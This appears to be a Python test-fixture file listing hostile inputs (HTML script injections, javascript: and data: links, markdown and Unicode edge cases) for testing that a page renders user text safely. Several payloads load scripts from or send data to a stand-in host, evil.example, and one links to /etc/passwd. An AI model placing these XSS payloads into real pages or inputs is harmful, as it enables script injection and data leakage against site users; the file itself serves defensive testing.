"""What nobody should be able to say to the page's harm.

Whatever of it ran would call ``pwned()``, which is not there and so would be an error on the page, or would leave the
page's own server.
"""

from __future__ import annotations

SCRIPTS = (
    "<script>pwned()</script>",
    "<ScRiPt>pwned()</sCrIpT >",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=pwned()>",
    "<svg onload=pwned()><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=pwned()>'>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe src=javascript:pwned()></iframe>",
    "<object data=javascript:pwned()><embed src=javascript:pwned()>",
    "<body onload=pwned()><input autofocus onfocus=pwned()>",
    "<details open ontoggle=pwned()>",
    "<form action=https://evil.example/><button formaction=javascript:pwned()>Send</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; * { display: none }</style>",
    "<p style='background:url(https://evil.example/);position:fixed;inset:0'>over everything",
    "<template><script>pwned()</script></template><noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<!--><img src=x onerror=pwned()>--><![CDATA[<script>pwned()</script>]]>",
    "\"><img src=x onerror=pwned()> '><img src=x onerror=pwned()>",
    "&lt;script&gt;pwned()&lt;/script&gt; &#60;img src=x onerror=pwned()&#62;",
    "<button data-action=delete id=composer name=nodeName>Press</button>",
)
LINKS = (
    "[click](javascript:pwned())",
    "[click](JaVaScRiPt:pwned())",
    "[click](java\nscript:pwned())",
    "[click](\x01javascript:pwned())",
    "[click](javascript&colon;pwned())",
    "[click](&#106;avascript:pwned())",
    "[click](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    "[click](vbscript:pwned())",
    "[click](file:///etc/passwd)",
    "[click](blob:https://evil.example/x)",
    '[click](https://example.org/" onclick="pwned())',
    "[click](https://example.org 'title\" onmouseover=\"pwned()')",
    "[click][1]\n\n[1]: javascript:pwned()",
    "<javascript:pwned()>",
    "![picture](https://evil.example/?what=was-said)",
    "![picture](javascript:pwned())",
    "![<img src=x onerror=pwned()>](x)",
    "[![x](y)](javascript:pwned())",
)
MARKDOWN = (
    "```<img src=x onerror=pwned()>\n<script>pwned()</script>\n```",
    "```html\n<script>pwned()</script>\n",
    '``` "><script>pwned()</script>\nx\n```',
    "`<script>pwned()</script>`",
    "    <script>pwned()</script>",
    "| <script>pwned()</script> | `a|b` |\n|:--|--:\n| <img src=x onerror=pwned()> | [x](javascript:pwned()) |",
    "$<script>pwned()</script>$ and $$<img src=x onerror=pwned()>$$ and \\(<b>\\)",
    "> " * 200 + "deep",
    "- " * 200 + "deep",
    "[" * 500 + "x" + "](y)" * 500,
    "*" * 2000 + "a" + "_" * 2000,
    "`" * 3001,
    "<!--slot--> <!--slot-->",
    "{{ 7 * 7 }} {% include 'base.html' %}",
)
CHARACTERS = (
    "bell \x07 null \x00 escape \x1b[31mred\x1b[0m delete \x7f next \x85 end",
    "abc\u202etxt.exe\u202c \u2066isolated\u2069 \u200e",
    "\ufeff\u2028line\u2029paragraph\u00a0\u200b",
    "Z" + "\u0301\u0316\u035c" * 300 + " stacked",
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16")
    + " \U000e0041\U0001f468\u200d\U0001f469 \ufffe\uffff",
    "carriage\rreturn\r\nand \x0b\x0c feeds",
    "data: x\n\nevent: gone\ndata: {}\n\nid: 1\n: comment",
)

HOSTILE_TEXTS = SCRIPTS + LINKS + MARKDOWN + CHARACTERS
